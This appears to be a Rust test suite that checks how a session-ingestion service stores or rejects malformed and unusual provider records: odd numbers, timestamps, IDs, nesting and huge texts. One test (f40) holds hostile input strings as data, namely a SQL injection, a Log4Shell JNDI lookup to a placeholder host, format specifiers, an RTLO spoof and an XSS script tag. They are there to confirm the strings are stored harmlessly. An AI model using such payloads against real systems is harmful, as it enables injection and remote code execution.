//! F26, F28–F30, F33–F35 and F37–F40: records with arbitrary values.
//!
//! Each row puts its records among plain ones, at all three providers. All plain ones must be stored, the odd
//! ones as far as they can be read; unreadable ones are stored as rejects and counted.

use std::collections::BTreeMap;
use std::fmt::Write;
use std::sync::Arc;

use chrono::{DateTime, TimeDelta, Utc};
use tributary::demo::simulator::Platform;
use tributary::demo::simulator::feed::{FixedFeed, FixedRecord};

use super::Rig;
use crate::harness::{noon, plain_feed, records};

/// Plain records of each provider.
const PLAIN: usize = 30;

/// Creation time of the odd records: in the middle of the plain ones.
fn created_at() -> DateTime<Utc> {
    noon() - TimeDelta::minutes(70)
}

/// A record like the plain ones.
fn odd(platform: Platform, id: &str) -> FixedRecord {
    records::record(platform, id, created_at())
}

/// Returns the record with `old`, which must be there, replaced in its JSON.
pub(super) fn with(record: FixedRecord, old: &str, new: &str) -> FixedRecord {
    assert!(record.json.contains(old), "there is no {old} in {}", record.json);
    FixedRecord { json: record.json.replace(old, new), ..record }
}

/// The free text of a record, with its quotes.
pub(super) fn text(platform: Platform) -> &'static str {
    match platform {
        Platform::Konpro => "\"anna\"",
        Platform::Konvo => "\"Hello there\"",
        Platform::Realtimekit => "\"Standup\"",
    }
}

fn id_name(platform: Platform) -> &'static str {
    if platform == Platform::Konpro { "\"session_id\"" } else { "\"id\"" }
}

/// Polls plain records and `odd` ones twice: each provider stores so many of the latter as sessions and so many as
/// rejects, the second poll writes nothing, and no key is revealed.
async fn keep(odd: impl Fn(Platform) -> Vec<FixedRecord>, sessions: usize, rejects: i64) -> Rig {
    let rig = Rig::of(|platform| {
        let feed: Arc<FixedFeed> = plain_feed(platform, PLAIN);
        for record in odd(platform) {
            feed.insert(record);
        }
        feed
    })
    .await;
    let inserted = i64::try_from(PLAIN + sessions).expect("a small count");
    for line in rig.poll().await {
        assert_eq!((line.inserted, line.rejected), (inserted, rejects), "{line:?}");
        assert!(line.is_complete(), "{line:?}");
    }
    for line in rig.poll().await {
        assert_eq!((line.inserted, line.updated, line.result), (0, 0, "complete"), "{line:?}");
    }
    assert_eq!(rig.world.number("select count(*) from core.sessions").await, 3 * inserted);
    let open = "select count(*) from ingest.rejects where resolved_at is null";
    assert_eq!(rig.world.number(open).await, 3 * rejects, "once, however often they come");
    rig.keeps_the_key().await;
    rig
}

/// Returns the free texts of the odd records, by provider.
async fn texts(rig: &Rig) -> Vec<String> {
    let sql = "select avatar_id from core.konpro_sessions where avatar_id <> 'anna'
               union all select body from core.messages where body not in ('Hello there', 'How can I help?')
               union all select meeting_title from core.realtimekit_sessions where meeting_title <> 'Standup'";
    sqlx::query_scalar(sql).fetch_all(&rig.world.db.pool).await.expect("the texts")
}

/// One record with this text, a JSON literal, is stored as `kept`.
async fn text_is_kept(json: &str, kept: &str) {
    let rig = keep(|platform| vec![with(odd(platform, "odd"), text(platform), json)], 1, 0).await;
    assert_eq!(texts(&rig).await, [kept; 3]);
}

#[tokio::test]
async fn f26_nul_in_a_text() {
    text_is_kept(r#""a\u0000b""#, "a\u{fffd}b").await;
}

#[tokio::test]
async fn f28_half_a_surrogate_pair_in_a_text() {
    let rig = keep(|platform| vec![with(odd(platform, "odd"), text(platform), r#""a\ud800b""#)], 1, 0).await;
    for text in texts(&rig).await {
        assert!(text.starts_with("a\u{fffd}") && text.ends_with('b'), "{text:?}");
    }
}

#[tokio::test]
async fn f28_half_a_surrogate_pair_in_a_name() {
    // nothing of such a record can be read: it is a reject, and the page is not lost
    let named = |platform| {
        let record = odd(platform, "odd");
        vec![FixedRecord { json: record.json.replacen('{', r#"{"\ud800":1,"#, 1), ..record }]
    };
    keep(named, 0, 1).await;
}

#[tokio::test]
async fn f28_a_whole_surrogate_pair() {
    text_is_kept(r#""a\ud83d\ude00b""#, "a😀b").await;
}

/// Asserts the minutes of meetings by their spellings.
async fn minutes_are(numbers: &[(&str, Option<&str>)]) {
    let feed = |platform| {
        let records = numbers.iter().enumerate().map(|(index, (json, _))| {
            let record = odd(platform, &format!("odd-{index}"));
            match platform {
                Platform::Konpro => with(record, "\"duration\":90", &format!("\"duration\":{json}")),
                Platform::Konvo => record,
                Platform::Realtimekit => {
                    with(record, "\"minutes_consumed\":3.0", &format!("\"minutes_consumed\":{json}"))
                }
            }
        });
        records.collect()
    };
    let rig = keep(feed, numbers.len(), 0).await;
    let stored: Vec<(String, Option<String>)> = sqlx::query_as(
        "select provider_session_id, provider_minutes::text from core.sessions
          where provider = 'realtimekit' and provider_session_id like 'odd-%'",
    )
    .fetch_all(&rig.world.db.pool)
    .await
    .expect("the minutes");
    let stored: BTreeMap<String, Option<String>> = stored.into_iter().collect();
    for (index, (json, minutes)) in numbers.iter().enumerate() {
        assert_eq!(stored[&format!("odd-{index}")].as_deref(), *minutes, "{json}");
    }
}

#[tokio::test]
async fn f29_numbers_are_exact_or_unknown() {
    minutes_are(&[
        ("0.1234567890123456789012345678", Some("0.123456789012345679")),
        ("123456789.123456789012", Some("123456789.123456789012")),
        ("99.90", Some("99.90")),
        ("1.5e2", Some("150")),
        ("-0", Some("0")),
        ("1e400", None),
        ("18446744073709551616", None),
        ("9007199254740993", None),
        ("1E+999999999", None),
    ])
    .await;
}

#[tokio::test]
async fn f29_an_id_above_2_to_the_53_is_kept_to_the_digit() {
    let record = |platform| {
        let name = id_name(platform);
        vec![with(odd(platform, "odd"), &format!("{name}:\"odd\""), &format!("{name}:9007199254740993"))]
    };
    let rig = keep(record, 1, 0).await;
    let ids = "select count(*) from core.sessions where provider_session_id = '9007199254740993'";
    assert_eq!(rig.world.number(ids).await, 3);
}

#[tokio::test]
async fn f30_numbers_and_texts_in_each_others_clothes() {
    minutes_are(&[("\"2.5\"", Some("2.5")), ("\" 7 \"", Some("7")), ("\"\"", None), ("true", None), ("[1]", None)])
        .await;
}

#[tokio::test]
async fn f30_a_record_without_its_time_is_kept_as_a_reject() {
    let without = |platform| {
        let (record, end) = (odd(platform, "odd"), if platform == Platform::Konpro { "," } else { "\"," });
        let at = record.json.find("\"created_at\":").expect("a time");
        let end = at + record.json[at..].find(end).expect("its end") + end.len() - 1;
        let json = format!("{}\"created_at\":null{}", &record.json[..at], &record.json[end..]);
        vec![FixedRecord { json, ..record }]
    };
    let rig = keep(without, 0, 1).await;
    let reasons = "select string_agg(distinct reason_code || ' ' || json_pointer, ', ') from ingest.rejects";
    assert_eq!(rig.world.text(reasons).await.as_deref(), Some("missing_field /created_at"));
}

#[tokio::test]
async fn f32_a_record_that_is_no_json_costs_no_other() {
    let broken = |platform| {
        let change = |number: usize, old: &str, new: &str| {
            let record = odd(platform, &format!("odd-{number}"));
            FixedRecord { json: record.json.replacen(old, new, 1), ..record }
        };
        vec![change(0, ",", ",,"), change(1, "\":", "\" "), change(2, "{", "{ , ")]
    };
    keep(broken, 0, 3).await;
}

#[tokio::test]
async fn f33_of_two_values_under_one_name_the_last_counts() {
    let twice = |platform| {
        let record = odd(platform, "odd");
        let first = format!("{{{}:\"first\",\"created_at\":5,\"", id_name(platform));
        vec![FixedRecord { json: record.json.replacen("{\"", &first, 1), ..record }]
    };
    let rig = keep(twice, 1, 0).await;
    let ids = "select count(*) from core.sessions where provider_session_id = 'odd'";
    assert_eq!(rig.world.number(ids).await, 3);
}

#[tokio::test]
async fn f34_a_record_nested_without_end_costs_no_other() {
    let deep = |depth: usize| format!("{{\"new\":{}{},\"", "[".repeat(depth), "]".repeat(depth));
    let nested = |platform| {
        [129, 100_000]
            .map(|depth| {
                let record = odd(platform, &format!("deep-{depth}"));
                FixedRecord { json: record.json.replacen("{\"", &deep(depth), 1), ..record }
            })
            .to_vec()
    };
    keep(nested, 2, 0).await;
}

#[tokio::test]
async fn f35_words_and_fields_nobody_knows_and_known_ones_that_are_gone() {
    let changed = |platform| {
        let change = |number: usize, old: &str, new: &str| with(odd(platform, &format!("odd-{number}")), old, new);
        let (status, shouted, unknown) = match platform {
            Platform::Konpro => ("\"connected\"", "\"CONNECTED\"", "\"hibernating\""),
            Platform::Konvo => ("\"whatsapp\"", "\"WhatsApp\"", "\"carrier pigeon\""),
            Platform::Realtimekit => ("\"ENDED\"", "\"ended\"", "\"HIBERNATING\""),
        };
        let removed = match platform {
            Platform::Konpro => ("\"api_key_type\":\"PAID\",", ""),
            Platform::Konvo => ("\"feed_id\":\"f\",", ""),
            Platform::Realtimekit => ("\"type\":\"meeting\",", ""),
        };
        let listed = match platform {
            Platform::Konpro => ("\"anna\"", "[\"anna\",{\"a\":1}]"),
            Platform::Konvo => ("\"channel\":\"whatsapp\"", "\"channel\":{\"name\":\"whatsapp\"}"),
            Platform::Realtimekit => ("\"Standup\"", "{\"name\":\"Standup\"}"),
        };
        vec![
            change(0, status, shouted),
            change(1, status, unknown),
            change(2, removed.0, removed.1),
            change(3, listed.0, listed.1),
            change(4, id_name(platform), &format!("\"brand_new\":{{\"a\":[1,2]}},{}", id_name(platform))),
        ]
    };
    let rig = keep(changed, 5, 0).await;
    let states = "select string_agg(session_state, ' ' order by provider_session_id) from core.sessions
                   where provider = 'realtimekit' and provider_session_id like 'odd-%'";
    assert_eq!(rig.world.text(states).await.as_deref(), Some("ended unknown ended ended ended"));
    let told = "select string_agg(value, ', ' order by value) from ingest.oddities
                 where kind = 'unknown_value' and value ilike 'hibernating'";
    assert_eq!(rig.world.text(told).await.as_deref(), Some("HIBERNATING, hibernating"), "to the letter");
}

/// The instant that most of these name.
const USUAL: Option<&str> = Some("2026-03-10 10:00:00");

/// Instants as received, and their meanings; `None`: the record becomes a reject.
const INSTANTS: [(&str, Option<&str>); 71] = [
    (r#""2026-03-10T10:00:00Z""#, USUAL),
    (r#""2026-03-10t10:00:00z""#, USUAL),
    (r#""2026-03-10T10:00:00""#, USUAL),
    (r#""2026-03-10 10:00:00""#, USUAL),
    (r#""2026-03-10 10:00:00+00""#, USUAL),
    (r#""2026-03-10T15:30:00+0530""#, USUAL),
    (r#""2026-03-10T15:30:00+05:30""#, USUAL),
    (r#""2026-03-10T00:00:00+14:00""#, Some("2026-03-09 10:00:00")),
    (r#""2026-03-10T10:00:00.123456789Z""#, Some("2026-03-10 10:00:00.123456")),
    ("1773136800", USUAL),
    ("1773136800.5", Some("2026-03-10 10:00:00.5")),
    ("1773136800000", USUAL),
    (r#""1773136800""#, USUAL),
    ("1.7731368e9", USUAL),
    ("1773136800000000", USUAL),
    (r#""1773136800000000123""#, USUAL),
    (r#""2016-12-31T23:59:60Z""#, Some("2017-01-01 00:00:00")),
    (r#""2026-02-28T23:59:59Z""#, Some("2026-02-28 23:59:59")),
    (r#""2026-03-09T24:00:00Z""#, Some("2026-03-10 00:00:00")),
    (r#""2026-03-10T10:00Z""#, USUAL),
    (r#""2026-03-10T10:00""#, USUAL),
    (r#""2026-03-10 11:00+01""#, USUAL),
    (r#""2026-03-10T10Z""#, USUAL),
    (r#""2026-03-10 10:00:00 UTC""#, USUAL),
    (r#""2026-03-10T10:00:00 gmt""#, USUAL),
    (r#""2026-03-10 05:00:00 UTC-5""#, USUAL),
    (r#""2026-03-10 11:00:00 +0100 CET""#, USUAL),
    (r#""Tue, 10 Mar 2026 10:00:00 +0000""#, USUAL),
    (r#""10 Mar 2026 05:00 EST""#, USUAL),
    (r#""Tue, 10 Mar 2026 10:00:00 GMT""#, USUAL),
    (r#""Tuesday, 10-Mar-26 10:00:00 GMT""#, USUAL),
    (r#""Tue Mar 10 10:00:00 2026""#, USUAL),
    (r#""Tue Mar 10 10:00:00 UTC 2026""#, USUAL),
    (r#""Tue Mar 10 2026 11:00:00 GMT+0100 (Central European Standard Time)""#, USUAL),
    (r#""10/Mar/2026:10:00:00 +0000""#, USUAL),
    (r#""March 10, 2026 10:00 AM UTC""#, USUAL),
    (r#""2026-03-09 12:30:00 pm""#, Some("2026-03-09 12:30:00")),
    (r#""20260310T100000Z""#, USUAL),
    (r#""20260310T1000Z""#, USUAL),
    (r#""20260310T110000+0100""#, USUAL),
    (r#""20260310100000Z""#, USUAL),
    (r#""20260310100000""#, USUAL),
    (r#""2026-03-10T10:00:00Z[UTC]""#, USUAL),
    (r#""2026-03-10T10:00:00[UTC]""#, USUAL),
    (r#""2026-03-10T11:00:00+01:00[Europe/Berlin]""#, USUAL),
    (r#""2026-03-10T11:00:00[Europe/Berlin][u-ca=gregory]""#, USUAL),
    (r#""2026-03-10 11:00:00 Europe/Berlin""#, USUAL),
    (r#""2026-03-10T10:00:00,123Z""#, Some("2026-03-10 10:00:00.123")),
    (r#""2026-03-10T10:00:00.1234567890123Z""#, Some("2026-03-10 10:00:00.123456")),
    ("\"2026-03-10T06:00:00\u{2212}04:00\"", USUAL),
    (r#""2026/03/10 10:00:00""#, USUAL),
    (r#""2026-3-10 10:00:00""#, USUAL),
    (r#""2026-W11-2T10:00:00Z""#, USUAL),
    (r#""2026W112T100000Z""#, USUAL),
    (r#""2026-069T10:00:00Z""#, USUAL),
    (r#""+002026-03-10T10:00:00.000Z""#, USUAL),
    (r#""2026-03-10T24:00:01Z""#, None),
    (r#""2026-02-30T10:00:00Z""#, None),
    (r#""294276-12-31T23:59:59Z""#, None),
    (r#""infinity""#, None),
    (r#""10/03/2026 10:00""#, None),
    (r#""03.10.2026 10:00""#, None),
    ("0", None),
    (r#""2026-03-10""#, None),
    (r#""2026-03-10T10:0""#, None),
    (r#""2026-03-10T10:00:00 IST""#, None),
    (r#""Mon, 10 Mar 2026 10:00:00 GMT""#, None),
    (r#""2026-03-29T02:30:00[Europe/Berlin]""#, None),
    (r#""2026-03-10T10:00:00+25:00""#, None),
    (r#""2026-03-10T10""#, None),
    ("17731368000000000000", None),
];

#[tokio::test]
async fn f37_instants_in_every_form() {
    // in two polls, because a run that rejects more than ten records is not complete
    instants_are(|index| index % 2 == 0).await;
    instants_are(|index| index % 2 == 1).await;
}

/// Polls records with the instants of the table that are chosen by their index.
async fn instants_are(is_chosen: fn(usize) -> bool) {
    let chosen = || INSTANTS.iter().enumerate().filter(|(index, _)| is_chosen(*index));
    let timed = |platform| {
        let record = |(index, (json, _)): (usize, &(&str, Option<&str>))| {
            let record = odd(platform, &format!("at-{index:02}"));
            let created = record.json.find("\"created_at\":").expect("a time") + "\"created_at\":".len();
            let end = created + record.json[created..].find([',', '}']).expect("its end");
            let json = format!("{}{json}{}", &record.json[..created], &record.json[end..]);
            FixedRecord { json, ..record }
        };
        chosen().map(record).collect()
    };
    let read = chosen().filter(|(_, (_, meaning))| meaning.is_some()).count();
    let refused = i64::try_from(chosen().count() - read).expect("a small count");
    let rig = keep(timed, read, refused).await;
    for (provider, (index, (json, meaning))) in Platform::ALL.iter().flat_map(|one| chosen().map(move |row| (one, row)))
    {
        let sql = format!(
            "select (created_at at time zone 'UTC')::text from core.sessions
              where provider = '{}' and provider_session_id = 'at-{index:02}'",
            provider.as_str()
        );
        let stored: Option<String> =
            sqlx::query_scalar(sqlx::AssertSqlSafe(sql)).fetch_optional(&rig.world.db.pool).await.expect("a time");
        assert_eq!(stored.as_deref(), *meaning, "{provider:?}: {json}");
    }
}

#[tokio::test]
async fn f38_lengths_that_cannot_be_are_unknown() {
    minutes_are(&[("-5", None), ("1e12", None), ("99999999999", None), ("1000000000", Some("1000000000"))]).await;
}

#[tokio::test]
async fn f38_an_end_before_the_beginning_gives_no_length() {
    let reversed = |platform| {
        let end = format!("\"{}\"", records::iso(created_at() + TimeDelta::seconds(90)));
        let record = odd(platform, "odd");
        vec![match platform {
            Platform::Konpro => with(record, "\"duration\":90", "\"duration\":-90"),
            Platform::Konvo | Platform::Realtimekit => with(record, &end, "\"2026-03-01T00:00:00.000Z\""),
        }]
    };
    let rig = keep(reversed, 1, 0).await;
    let unknown = "select count(*) from core.sessions where provider_session_id = 'odd' and duration_seconds is null";
    assert_eq!(rig.world.number(unknown).await, 3);
    let told = "select count(distinct source_id) from ingest.oddities where kind = 'unreadable_value'";
    assert_eq!(rig.world.number(told).await, 3);
}

#[tokio::test]
async fn f39_ids_of_every_kind_are_kept_to_the_letter() {
    let ids = ["a b", " padded ", "a'b", "a/b", "..", "a%2Fb", "a?b#c", "naïve-日本", "ABC", "abc", "null-1", "0"];
    let records = |platform| {
        let longest = "x".repeat(512);
        let ids = ids.iter().copied().chain([longest.as_str()]);
        ids.map(|id| odd(platform, id)).chain([with(odd(platform, "quote"), "\"quote\"", r#""quo\"te\\""#)]).collect()
    };
    let rig = keep(records, ids.len() + 2, 0).await;
    for id in ids.into_iter().chain([r#"quo"te\"#]) {
        let count = sqlx::query_scalar::<_, i64>("select count(*) from core.sessions where provider_session_id = $1");
        assert_eq!(count.bind(id).fetch_one(&rig.world.db.pool).await.expect("a count"), 3, "{id}");
    }
}

#[tokio::test]
async fn f39_what_can_be_no_id_is_kept_as_a_reject() {
    let long = "x".repeat(4_096);
    let bad = ["\"\"", "null", "{}", "[\"a\"]", r#""a\u0001b""#, &format!("\"{long}\"")].map(str::to_owned);
    let records = |platform| {
        let records = bad.iter().map(|json| {
            let name = id_name(platform);
            let record = odd(platform, "odd");
            let old = format!("{name}:\"odd\"");
            FixedRecord { json: record.json.replacen(&old, &format!("{name}:{json}"), 1), ..record }
        });
        records.collect()
    };
    keep(records, 0, 6).await;
}

#[tokio::test]
async fn f40_texts_that_mean_something_elsewhere() {
    let texts = [
        "'); drop table core.sessions; --",
        "%s%n%x {} {0} ${jndi:ldap://x.test/a} $1 \\copy",
        "\u{202e}gnp.exe \u{200f}שלום",
        "👩‍👩‍👧‍👦 e\u{301} ﷽",
        "<script>alert(1)</script>",
    ];
    let records = |platform| {
        let record = |(index, kept): (usize, &&str)| {
            let json = serde_json::to_string(kept).expect("JSON");
            with(odd(platform, &format!("odd-{index}")), text(platform), &json)
        };
        texts.iter().enumerate().map(record).collect()
    };
    let rig = keep(records, texts.len(), 0).await;
    let stored = self::texts(&rig).await;
    for text in texts {
        assert_eq!(stored.iter().filter(|stored| *stored == text).count(), 3, "{text:?} in {stored:?}");
    }
}

#[tokio::test]
async fn f40_a_text_of_a_megabyte() {
    // all words are different, so that compression does not help
    let mut long = String::new();
    for number in 0_u64.. {
        if long.len() > 1_500_000 {
            break;
        }
        write!(long, "{:x} ", number.wrapping_mul(0x9e37_79b9_7f4a_7c15)).expect("text");
    }
    let long = long.trim_end().to_owned();
    let rig = keep(|platform| vec![with(odd(platform, "odd"), text(platform), &format!("\"{long}\""))], 1, 0).await;
    for text in texts(&rig).await {
        assert!(text == long, "{} characters of {}", text.len(), long.len());
    }
}
